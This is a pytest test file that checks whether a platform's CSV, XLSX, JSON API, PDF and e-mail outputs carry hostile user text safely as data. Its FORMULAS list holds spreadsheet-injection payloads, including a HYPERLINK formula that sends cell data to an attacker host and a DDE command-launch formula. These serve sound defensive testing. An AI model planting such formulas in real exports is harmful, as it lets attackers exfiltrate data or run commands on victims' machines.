"""Hostile text read back through what leaves the platform: CSV and XLSX exports (data, never a
formula), the JSON API (verbatim, as JSON), the PDF profile (printed as text, no link) and
e-mails (plain text, one-line subjects)."""
import csv
import io
import re

import pytest
from openpyxl import load_workbook

from app.mail import _email_message
from tests import factories
from tests.helpers import job_file, made_by_job, overview_url, pdf_text
from tests.hostile import PAYLOADS, clip, hostile_world, payload_params

#: Text a spreadsheet would run, each with a tab, carriage return, line feed or spaces before it too.
FORMULAS = [start + formula for formula in ('=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+cmd", "-2+3",
                                            "@SUM(A1)", "=cmd|' /C calc'!A0")
            for start in ("", "\t", "\r", "\n", "  ")]
#: Characters XML 1.0, and so XLSX, cannot carry, which a pasted text may hold.
CONTROL_TEXT = "Article 1\x0bArticle 2\x0cend\x1b[0m\x01"


def _published(payload: str, **extra):
    """France's published response with ``payload`` in every text answer."""
    cycle = factories.cycle()
    laws = [{"title": clip(payload, 500), "article": clip(payload, 300), "adopted": None, "status": None,
             "url": "https://example.org/law", "attachment": None}]
    factories.response("FRA", cycle, {"crim_offence": "yes", "crim_law": clip(payload, 500), "crim_laws": laws,
                                      "prot_shelter": "yes", "prot_description": payload,
                                      "data_body": clip(payload, 500), **extra}, status="published")
    return cycle


def _csv_values(text: str) -> dict[str, str]:
    return {row["question_id"]: row["value"] for row in csv.DictReader(io.StringIO(text))}


def _xlsx_cells(data: bytes) -> list:
    return [cell for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows() for cell in row]


#: PostgreSQL stores no NUL (requests drop it: test_hostile_posts.py).
STORABLE = [key for key in PAYLOADS if key != "nul"]


@pytest.mark.parametrize("payload,markers", payload_params(STORABLE))
def test_csv_xlsx_and_api_carry_hostile_text_as_data(client, login, payload, markers):
    cycle = _published(payload)
    login(factories.user("secretariat"))
    for url in (f"/analysis/cycles/{cycle.id}/export.csv", f"/api/v1/cycles/{cycle.id}/answers.csv"):
        values = _csv_values(client.get(url).text)
        assert values["prot_description"] == payload and values["crim_law"] == clip(payload, 500), url
    cells = _xlsx_cells(job_file(client, f"/analysis/cycles/{cycle.id}/export.xlsx").data)
    assert payload in {cell.value for cell in cells} and not [c for c in cells if c.data_type == "f"]
    api = client.get(f"/api/v1/cycles/{cycle.id}/responses/FRA")
    assert api.mimetype == "application/json" and api.headers["X-Content-Type-Options"] == "nosniff"
    answers = api.json["answers"]
    assert answers["prot_description"]["value"] == payload
    assert answers["crim_laws"]["value"][0]["title"] == clip(payload, 500)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_every_export_neutralises_text_a_spreadsheet_would_run(client, login, formula):
    cycle = _published(formula)
    login(factories.user("secretariat"))
    for url in (f"/analysis/cycles/{cycle.id}/export.csv", f"/api/v1/cycles/{cycle.id}/answers.csv",
                f"/analysis/cycles/{cycle.id}/export.csv?audience=public"):
        values = _csv_values(client.get(url).text)
        assert values["prot_description"] == "'" + formula and values["data_body"] == "'" + formula.strip(), url
    texts = {cell.value for cell in _xlsx_cells(job_file(client, f"/analysis/cycles/{cycle.id}/export.xlsx").data)}
    assert "'" + formula.replace("\r", "\n") in texts  # XML reads a carriage return as a line feed


def test_a_cycle_name_that_looks_like_a_formula_is_neutralised(client, login):
    cycle = _published("Act 12")
    cycle.name = "=1+1"
    factories.db.session.commit()
    login(factories.user("secretariat"))
    rows = list(csv.DictReader(io.StringIO(client.get(f"/analysis/cycles/{cycle.id}/export.csv").text)))
    assert {row["cycle"] for row in rows} == {"'=1+1"}


def test_control_characters_of_a_pasted_text_do_not_break_the_exports(client, login):
    cycle = _published(CONTROL_TEXT)
    login(factories.user("secretariat"))
    assert _csv_values(client.get(f"/analysis/cycles/{cycle.id}/export.csv").text)["prot_description"] == CONTROL_TEXT
    response = job_file(client, f"/analysis/cycles/{cycle.id}/export.xlsx")
    assert response.status_code == 200
    assert "Article 1 Article 2 end [0m" in {str(cell.value).strip() for cell in _xlsx_cells(response.data)}
    assert client.get(f"/api/v1/cycles/{cycle.id}/responses/FRA").json["answers"]["prot_description"]["value"] \
        == CONTROL_TEXT


@pytest.mark.parametrize("payload,markers", payload_params(("script", "quote-breakout", "entities")))
def test_the_profile_prints_hostile_text_and_links_nothing(client, login, payload, markers):
    cycle = _published(payload)
    login(factories.user("focal_point", "FRA"))
    pdf = made_by_job(client, overview_url(cycle) + "profile.pdf").data
    assert " ".join(payload.split())[:200] in " ".join(pdf_text(pdf).split())
    assert b"/JavaScript" not in pdf and b"/JS " not in pdf and not re.search(rb"/URI\s*\((?!https?://)", pdf)


@pytest.mark.parametrize("payload,markers", payload_params(("script", "quote-breakout", "right-to-left", "nul")))
def test_e_mails_carry_hostile_text_as_plain_text(client, login, outbox, payload, markers):
    world = hostile_world(client, login, outbox, payload)
    reply = next(m for m in outbox if m.to == world.secretariat.email and "replied" in m.body)
    text = payload.replace("\x00", "")  # NUL characters are dropped as requests come in
    assert f"{clip(text, 200)} ({clip(text, 200)}) replied" in reply.body and f"\n{text}\n" in reply.body
    for message in outbox:
        assert "\n" not in message.subject and "\r" not in message.subject
        email = _email_message(message)
        assert email.get_content_type() == "text/plain" and not email.is_multipart()
        assert email.get_content().strip() == message.body.strip()
